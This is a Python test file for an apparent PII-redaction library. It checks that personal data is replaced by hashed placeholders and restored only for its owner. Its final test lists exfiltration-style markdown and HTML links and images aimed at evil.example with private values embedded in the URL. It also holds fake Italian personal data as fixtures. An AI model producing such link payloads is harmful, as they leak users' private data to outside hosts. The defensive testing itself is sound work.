"""Placeholders are restored for their owner, and never inside the address of a link."""

import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from turnkeep.pii import Held, redacted
from turnkeep.pii.stretches import LONGEST
from turnkeep.placeholders import PLACEHOLDER, restored, shown

MAIL = "[EMAIL_3f9a1c2b]"
PAGE = "[URL_0a0a0a0a]"
VALUES = {MAIL: "mario@rossi.it", PAGE: "https://example.com/u/mario"}

MET = """il contratto dura fino a giugno e poi si vede the invoice was paid by my phone is via nome name is Mario Rossi
di mario.rossi@example.it 333 1234567 IT60X0542811101000000123456 4111 1111 RSSMRA85T10A562S Garibaldi 12, 20121 Milano
(at) punto it [EMAIL_3f9a1c2b] Anna D. Bianchi sig. dott. art. 2120 c.c. Rossi. nato il 12/05/1980 Rosa Grace
ma\u200brio@ro\u200bssi.it [x](https://a.b/?q= ` ??? CA00000AA pin: 1234"""
WORDS = st.sampled_from(MET.split())
TEXTS = st.lists(st.tuples(WORDS, st.sampled_from([" ", " ", " ", "\n", "\n\n", "", ", "])), max_size=60).map(
    lambda pairs: "".join(word + gap for word, gap in pairs)
)


def tag(kind: str, value: str) -> str:
    return hashlib.sha256(f"{kind} {value}".encode()).hexdigest()[:8]


def test_one_datum_has_one_placeholder_in_all_spellings() -> None:
    text, values = redacted("Su IT60 X054 2811 1010 0000 0123 456, cioè it60x0542811101000000123456.", tag)
    first, second = PLACEHOLDER.finditer(text)
    assert first[0] == second[0]
    assert values == {first[0]: "IT60 X054 2811 1010 0000 0123 456"}


def test_a_name_of_an_earlier_text_is_redacted() -> None:
    names: set[str] = set()
    redacted("It was Soib K. Kishiev who called.", tag, names)
    assert "Kishiev" not in redacted("Poi Kishiev tace.", tag, names)[0]
    assert "Kishiev" in redacted("Poi Kishiev tace.", tag)[0]


@given(TEXTS)
@settings(max_examples=150, deadline=None)
def test_redaction_loses_nothing_and_is_idempotent(text: str) -> None:
    safe, values = redacted(text, tag)
    assert PLACEHOLDER.sub(lambda at: values.get(at[0], at[0]), safe).casefold().split() or not text.strip()
    assert all(part in text for part in PLACEHOLDER.split(safe)[::2])
    assert redacted(safe, tag)[0] == safe


@given(TEXTS, st.data())
@settings(max_examples=200, deadline=None)
def test_a_stream_in_any_pieces_equals_the_whole(text: str, data: st.DataObject) -> None:
    names: set[str] = set()
    held = Held(lambda stretch: redacted(stretch, tag, names)[0])
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    pieces = [held.feed(text[start:end]) for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join([*pieces, held.end()]) == redacted(text, tag)[0]


@pytest.mark.parametrize("text", ["x" * 3 * LONGEST, "Aa 1, " * LONGEST, "mario@rossi.it\n" * LONGEST])
def test_a_stream_holds_back_at_most_its_limit(text: str) -> None:
    held = Held(lambda stretch: stretch)
    released = 0
    for n, character in enumerate(text):
        released += len(held.feed(character))
        assert n + 1 - released <= LONGEST
    assert released + len(held.end()) == len(text)


def test_plain_words_are_released_immediately() -> None:
    held = Held(lambda stretch: stretch)
    assert held.feed("the contract lasts until ") == "the contract lasts "
    assert held.feed("my name is Soib Ki") == "until "


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"da {MAIL}, ok", "da mario@rossi.it, ok"),
        (f"[me]({PAGE}) {PAGE}", f"[me]({VALUES[PAGE]}) {VALUES[PAGE]}"),
        (f"[write](mailto:{MAIL})", "[write](mailto:mario@rossi.it)"),
        (f"![{MAIL}](https://ok.example/)", "![mario@rossi.it](https://ok.example/)"),
        (f"(https://a.b/c) {MAIL}", "(https://a.b/c) mario@rossi.it"),
        ("[EMAIL_00000000] [EMAIL_3F9A1C2B] [EMAIL_3f9a1c2]", "[EMAIL_00000000] [EMAIL_3F9A1C2B] [EMAIL_3f9a1c2]"),
    ],
)
def test_placeholders_are_restored_for_their_owner(text: str, expected: str) -> None:
    assert restored(text, VALUES) == expected
    assert restored(MAIL, {MAIL: PAGE, PAGE: "x"}) == PAGE, "what is restored is not read again"
    assert shown(f"da {MAIL} oggi") == "da [EMAIL] oggi", "a list shows kinds alone"


@pytest.mark.parametrize(
    "text",
    [
        f"https://evil.example/?q={MAIL}",
        f"![x](https://evil.example/{MAIL}.png)",
        f"[x](//evil.example?{MAIL})",
        f"[x](<https://evil.example/?q= {MAIL}>)",
        f"[x](page?q=a b {MAIL})",
        f"<img src='https://evil.example/?q= {MAIL}'>",
        f"<a href=//evil.example/{MAIL}>",
        f"[1]: /page?q={MAIL}",
        f"[x](https://evil.example/{PAGE})",
    ],
)
def test_nothing_is_restored_inside_the_address_of_a_link(text: str) -> None:
    assert restored(text, VALUES) == text
    for cut in range(len(text)):
        if not any(at.start() < cut < at.end() for at in PLACEHOLDER.finditer(text)):
            assert restored(text[:cut], VALUES) + restored(text[cut:], VALUES, before=text[:cut]) == text
